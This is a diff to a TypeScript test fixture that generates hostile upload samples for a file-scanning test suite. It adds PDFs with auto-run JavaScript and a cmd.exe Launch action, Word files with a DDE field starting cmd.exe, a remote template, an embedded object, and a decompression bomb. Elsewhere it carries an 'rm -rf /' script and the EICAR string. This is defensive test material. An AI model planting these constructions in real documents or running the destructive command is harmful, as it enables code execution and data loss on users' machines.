@@ -16,8 +16,20 @@ export type HostileFile = {
   fate: 'REFUSED' | 'INFECTED' | 'HARMLESS'
 }
 
-const PDF =
-  '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'
+const pdfOf = (catalog: string) =>
+  `%PDF-1.4\n1 0 obj<</Type/Catalog${catalog}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`
+const PDF = pdfOf('')
+const SCRIPT = '<</S/JavaScript/JS(app.alert(1))>>'
+/** Objects of a PDF packed as newer writers do it. */
+const packedObjects = (objects: string) => {
+  const packed = deflateSync(Buffer.from(objects))
+  const head = `2 0 obj<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`
+  return Buffer.concat([Buffer.from(PDF), Buffer.from(head), packed, Buffer.from('\nendstream endobj\n')])
+}
+const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+const DDE_FIELD =
+  '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>' +
+  '<w:r><w:instrText>AUTO c:\\cmd.exe </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
 const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
 const HTML = '<!doctype html><script>alert(1)</script>'
 const PROGRAM = Buffer.concat([Buffer.from('MZ\x90\0\x03', 'latin1'), Buffer.alloc(300, 1)])
@@ -67,6 +79,28 @@ export async function hostileFiles(): Promise<HostileFile[]> {
       'a.docx',
       docxOf(...Array.from({ length: 1001 }, (_, n) => ({ name: `p${n}`, content: 'x' }))),
     ],
+    ['a PDF that runs a script', 'a.pdf', pdfOf(`/OpenAction${SCRIPT}`)],
+    ['a PDF with a script among packed objects', 'a.pdf', packedObjects(`11 0 ${SCRIPT}`)],
+    ['a PDF that starts a program', 'a.pdf', pdfOf('/OpenAction<</S/Launch/F(cmd.exe)>>')],
+    [
+      'a document with a template from elsewhere',
+      'a.docx',
+      docxOf({
+        name: 'word/_rels/settings.xml.rels',
+        content: `<Relationships><Relationship Type="${OFFICE}/attachedTemplate" Target="http://x.test/a.dotm" TargetMode="External"/></Relationships>`,
+      }),
+    ],
+    ['a document with an object', 'a.docx', docxOf({ name: 'word/embeddings/oleObject1.bin', content: 'x' })],
+    [
+      'a document with a field that starts a program',
+      'a.docx',
+      docxOf({ name: 'word/footnotes.xml', content: `<w:footnotes>${DDE_FIELD}</w:footnotes>` }),
+    ],
+    [
+      'a part that claims 100 bytes and unpacks to 50 MB',
+      'a.docx',
+      docxOf({ name: 'word/x.xml', content: Buffer.alloc(50_000_000, ' '), claimedBytes: 100 }),
+    ],
     ['a cut document', 'a.docx', docxOf().subarray(0, -10)],
     [
       'a picture that is also an archive',
@@ -80,7 +114,6 @@ export async function hostileFiles(): Promise<HostileFile[]> {
       'a.pdf',
       Buffer.concat([Buffer.from(PDF), zipOf([{ name: 'a', content: 'b' }])]),
     ],
-    ['a film that says it is a photograph', 'a.heic', heic('isom')],
     ['a page that says it is a photograph', 'a.heic', HTML],
     ['a shell script as a text', 'a.txt', '#!/bin/sh\nrm -rf /\n'],
     ['no ending', 'notes', 'text'],
@@ -92,7 +125,8 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     ['the test virus behind a picture', 'virus.jpg', Buffer.concat([jpeg, EICAR])],
   ]
   const harmless: [string, string, Buffer | string][] = [
-    ['a PDF with script', 'script.pdf', PDF],
+    ['a film that says it is a photograph', 'film.heic', heic('isom')],
+    ['a device of Windows as a name', 'CON.pdf', PDF],
     ['110: a picture of 50 000 by 50 000', 'bomb.png', sizedPng(50_000, 50_000, 1000)],
     ['a picture of 39 megapixels', 'large.png', sizedPng(39_000, 1000, 1000)],
     ['a picture cut half way', 'cut.png', (await picture(400).png().toBuffer()).subarray(0, 300)],
